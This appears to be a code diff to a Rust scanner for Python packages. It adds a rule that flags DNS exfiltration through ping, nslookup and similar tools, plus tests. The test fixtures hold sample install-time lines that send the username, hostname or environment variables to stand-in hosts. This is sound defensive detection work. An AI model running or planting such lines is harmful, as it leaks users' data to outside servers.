@@ -199,6 +199,18 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
             call.arguments.args.first(),
             Some(Expr::List(_) | Expr::Tuple(_))
         );
+    // `ping -c 1 {user}.{host}.x.example`: a tool that resolves the name it is given sends
+    // whatever the name carries to the name's DNS server, as a lookup from Python would.
+    let resolver = (sink == SinkKind::Process)
+        .then(|| call.arguments.args.first())
+        .flatten()
+        .and_then(|command| super::partial_command_text(checker, command))
+        .and_then(|command| name_resolving_tool(&command));
+    let sink = if resolver.is_some() {
+        SinkKind::Network
+    } else {
+        sink
+    };
     let Some((source, severity)) = found
         .into_iter()
         .filter_map(|index| checker.sources.get(index).cloned())
@@ -224,6 +236,10 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     let destination = endpoint.map_or_else(String::new, |label| {
         format!(", {}", crate::text::with_article(&label))
     });
+    let destination = match resolver {
+        Some(tool) => format!("{destination}, a name lookup by `{tool}`"),
+        None => destination,
+    };
     checker.report(
         &RULE,
         call.range(),
@@ -236,6 +252,40 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         severity,
         vec!["flow", flow_tag(source.kind, sink)],
     );
+}
+
+/// The program of `command` when it is one that resolves the host name it is given (and
+/// takes no data otherwise: `ping`, `nslookup`, `dig`, `host`, `traceroute`) and the name is
+/// computed data under a fixed domain (`….x.example-oast.net`), whose DNS server receives the
+/// data. Pinging the machine's own name (`ping {hostname}`) asks nobody else.
+fn name_resolving_tool(command: &str) -> Option<&'static str> {
+    let under_fixed_domain = command.split_whitespace().any(|word| {
+        word.rsplit_once(crate::fold::UNKNOWN)
+            .is_some_and(|(_, domain)| {
+                domain.starts_with('.') && domain.trim_start_matches('.').contains('.')
+            })
+    });
+    if !under_fixed_domain {
+        return None;
+    }
+    let program = command
+        .trim_start()
+        .split(|c: char| c.is_whitespace() || c == ',')
+        .next()?
+        .trim_matches(['"', '\'', '[', '(']);
+    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    let program = program.strip_suffix(".exe").unwrap_or(program);
+    [
+        "ping",
+        "ping6",
+        "nslookup",
+        "dig",
+        "host",
+        "traceroute",
+        "tracert",
+    ]
+    .into_iter()
+    .find(|tool| program.eq_ignore_ascii_case(tool))
 }
 
 /// `post(get(CONFIG_URL).text, data)`: the address a request goes to was itself read from a
@@ -361,6 +411,18 @@ fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
 mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn a_name_resolving_tool_given_host_data_sends_it() {
+        let ping = "import getpass, subprocess\nsubprocess.run(['ping', '-c', '1', getpass.getuser() + '.x.example-oast.net'])\n";
+        assert!(max_severity("p/pkg/__init__.py", ping, "WH200") >= 0.7);
+        let nslookup = "import os, socket\nos.system('nslookup ' + socket.gethostname() + '.x.example-oast.net')\n";
+        assert!(max_severity("p/setup.py", nslookup, "WH200") >= 0.7);
+        let other = "import getpass, subprocess\nsubprocess.run(['echo', getpass.getuser()])\n";
+        assert!(max_severity("p/pkg/__init__.py", other, "WH200") < 0.3);
+        let browser = "import os, webbrowser\nwebbrowser.open('https://x.example/t?d=' + str(dict(os.environ)))\n";
+        assert!(max_severity("p/pkg/__init__.py", browser, "WH200") >= 0.7);
+    }
 
     #[test]
     fn a_route_running_what_its_visitor_sends_is_a_web_shell() {
